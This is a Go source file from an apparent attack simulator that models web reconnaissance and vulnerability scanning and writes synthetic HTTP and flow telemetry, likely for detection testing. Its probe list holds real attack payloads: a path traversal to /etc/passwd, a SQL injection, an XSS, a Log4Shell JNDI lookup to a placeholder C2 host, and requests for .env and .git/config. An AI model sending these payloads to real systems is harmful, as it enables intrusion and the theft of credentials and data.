package technique

import (
	"time"

	"hemostat/sim"
	"hemostat/sim/role"
	"hemostat/sim/world"
)

var reconnaissance = []*Technique{
	{
		ID: "T1595.001", Name: "Active Scanning: Scanning IP Blocks", Tactic: "reconnaissance", Platforms: []string{"network"},
		Needs: "an address on the internet", Effect: "hosts that answer on a port are known",
		Telemetry: []string{"zeek/conn"}, Tools: []string{"masscan", "slow scan"}, Takes: sim.LogNormal(time.Minute, 0.6), Success: 0.99,
		run: scanFromOutside,
	},
	{
		ID: "T1595.002", Name: "Active Scanning: Vulnerability Scanning", Tactic: "reconnaissance", Platforms: []string{"network"},
		Needs: "a web server that can be reached", Effect: "web servers with a hole are known",
		Telemetry: []string{"webserver", "zeek/conn", "zeek/http"}, Tools: []string{"nikto", "nuclei", "patient browser"}, Takes: sim.LogNormal(3*time.Minute, 0.6), Success: 0.99,
		ready: needWeb, run: scanWeb,
	},
}

func needWeb(s *State) error {
	if len(s.World.WithRole(role.WebServer)) == 0 {
		return errNoWeb
	}
	return nil
}

// probes are what scanners ask for; the last ones look like anybody's requests.
var probes = []struct{ uri, query string }{
	{"/.git/config", ""}, {"/.env", ""}, {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", ""}, {"/index.php", "id=1%27+UNION+SELECT+1,2,concat(user(),0x3a)--+-"},
	{"/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"}, {"/", "x=${jndi:ldap://{c2}/a}"}, {"/wp-login.php", ""}, {"/robots.txt", ""}, {"/login", ""}, {"/", ""},
}

// scanWeb makes one request a round.
func scanWeb(a *Attempt) Progress {
	w := a.World
	if a.Round == 0 {
		a.Target = sim.Pick(&a.Rand, w.WithRole(role.WebServer))
		a.Count = 24 + a.Rand.IntN(40)
	}
	if r := w.Reach(a.source(), world.At(a.Target), 80); !r.OK() {
		return blocked(r)
	}
	agent, gap := "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", 300*time.Millisecond
	probe := probes[a.Round%len(probes)]
	switch a.Tool {
	case "nuclei":
		if a.Round%8 == 5 { // a probe that makes the server look up a name of the scanner's
			w.Resolve(a.Now+time.Second, a.Actor, a.Target, nil, a.label(20)+".oast.interact.sh", "A", "198.51.100.33")
		}
		agent = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
	case "patient browser":
		agent, gap = browserAgent, 20*time.Second
		probe = probes[6+a.Round%4]
		a.Count = min(a.Count, 12)
	}
	w.HTTP(a.Now, a.Actor, world.Request{From: a.source(), To: world.At(a.Target), Port: 80, Method: "GET", Host: "www." + w.Domain, URI: probe.uri, Query: a.text(nil, probe.query), Agent: agent, Status: "404", Received: 380})
	w.Flow(a.Now, a.Actor, world.Flow{From: a.source(), To: world.At(a.Target), Port: 80, Service: "http", Sent: 500, Received: 900, Duration: time.Second})
	if a.Round < a.Count {
		return again(time.Duration(float64(gap) * (0.5 + a.Rand.Exp()) * a.Slowdown))
	}
	a.learn(a.Target)
	return success("%d probes of %s", a.Round+1, a.Target.Name)
}

const browserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"
